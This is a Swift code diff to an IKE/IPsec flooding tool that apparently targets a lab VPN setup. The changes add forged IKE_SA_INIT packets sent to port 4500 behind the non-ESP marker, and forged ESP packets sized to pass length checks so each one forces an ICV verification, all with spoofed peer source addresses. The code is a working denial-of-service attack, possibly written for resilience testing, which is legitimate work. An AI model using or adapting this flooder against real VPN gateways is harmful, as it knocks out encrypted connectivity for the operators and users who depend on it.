@@ -13,6 +13,8 @@ final class Flooder: @unchecked Sendable {
         var seconds: Double
         /// Percent of datagrams whose source is a listed peer's address rather than one of the attacker's.
         var spoofPercent: Int
+        /// Where forged IKE_SA_INITs go: 500, or 4500 behind the non-ESP marker (RFC 3948 §2.2), or both.
+        var initPorts: [UInt16]
         var target: String
         var attackerAddresses: [String]
         var spoofedAddresses: [String]
@@ -36,7 +38,7 @@ final class Flooder: @unchecked Sendable {
 
         var label: String {
             switch self {
-            case .forgedInit: "forged IKE_SA_INIT to 500"
+            case .forgedInit: "forged IKE_SA_INIT"
             case .garbage500: "random bytes to 500"
             case .garbage4500: "random bytes to 4500 (ESP, random SPI)"
             case .unknownSA: "IKE header, unknown SPIs, random SK"
@@ -65,6 +67,9 @@ final class Flooder: @unchecked Sendable {
     static let modp2048Length = 256
     static let nonceLength = 32
     static let templateCount = 16
+    /// RFC 3602 AES-CBC block and IV, RFC 4868 HMAC-SHA-256-128 ICV: the shape of an ESP packet of the lab's SAs.
+    static let aesBlock = 16
+    static let sha256ICV = 16
 
     private let fd: Int32
     private let plan: Plan
@@ -190,9 +195,12 @@ final class Flooder: @unchecked Sendable {
         switch kind {
         case .forgedInit:
             let template = templates[Int(random.next() % UInt64(templates.count))]
-            length = template.count
-            buffer.replaceSubrange(28..<(28 + length), with: template)
-            put64(&buffer, at: 28, random.next() | 1)
+            destinationPort = plan.initPorts[Int(random.next() % UInt64(plan.initPorts.count))]
+            let marker = destinationPort == 4500 ? 4 : 0
+            length = marker + template.count
+            for i in 28..<(28 + marker) { buffer[i] = 0 }
+            buffer.replaceSubrange((28 + marker)..<(28 + length), with: template)
+            put64(&buffer, at: 28 + marker, random.next() | 1)
         case .garbage500, .garbage4500:
             destinationPort = kind == .garbage500 ? 500 : 4500
             length = 1 + Int(random.next() % UInt64(Self.maximumGarbageLength))
@@ -217,12 +225,13 @@ final class Flooder: @unchecked Sendable {
             buffer[ike + 29] = 0
             put16(&buffer, at: ike + 30, UInt16(4 + body))
         case .forgedESP:
-            // RFC 4303 §2: SPI, sequence number, then payload and ICV (here random, so authentication fails).
+            // RFC 4303 §2: SPI, sequence number, IV, whole cipher blocks, ICV: a length the lab's aes256-sha256
+            // SA accepts, so the packet reaches the ICV check (random, so authentication fails).
             let child = childSPIs[Int(random.next() % UInt64(childSPIs.count))]
             destinationPort = 4500
             spoof = true
             source = child.peer
-            length = 8 + 64 + Int(random.next() % 128)
+            length = 8 + Self.aesBlock + Self.aesBlock * (1 + Int(random.next() % 8)) + Self.sha256ICV
             fillRandom(&buffer, from: 28, count: length)
             put32(&buffer, at: 28, child.spi)
             put32(&buffer, at: 32, UInt32(truncatingIfNeeded: random.next() % 1_000_000) + 1)
